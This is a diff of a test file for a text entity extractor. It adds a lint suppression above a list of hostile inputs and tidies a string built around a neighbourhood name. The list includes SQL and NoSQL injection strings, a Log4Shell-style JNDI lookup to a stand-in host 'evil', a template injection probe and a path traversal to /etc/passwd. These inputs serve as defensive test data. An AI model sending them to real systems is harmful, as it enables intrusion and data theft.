@@ -38,6 +38,7 @@ describe('asks nothing of a municipality', () => {
     'SELECT * FROM tickets WHERE id=1 UNION SELECT password FROM agents',
     "admin'--",
     '{"$gt":""}',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: as attackers write it
     '${jndi:ldap://evil/a}',
     '{{7*7}}',
     '../../../etc/passwd',
@@ -151,7 +152,7 @@ test('a hundred thousand characters of anything take bounded time', () => {
 });
 
 test('names keep their places in a text that was tidied', () => {
-  const text = '\u202e' + '𝐬𝐮 𝐲𝐨𝐤 ' + zalgo('Kartal', 2) + "'da";
+  const text = `\u202e𝐬𝐮 𝐲𝐨𝐤 ${zalgo('Kartal', 2)}'da`;
   const [entity] = find(text).filter(({ type }) => type === 'neighbourhood');
   expect(entity).toMatchObject({ value: 'neighbourhood:Kartal Mahallesi', role: 'at' });
   expect(text.slice(entity!.start, entity!.end)).toBe(entity!.text);
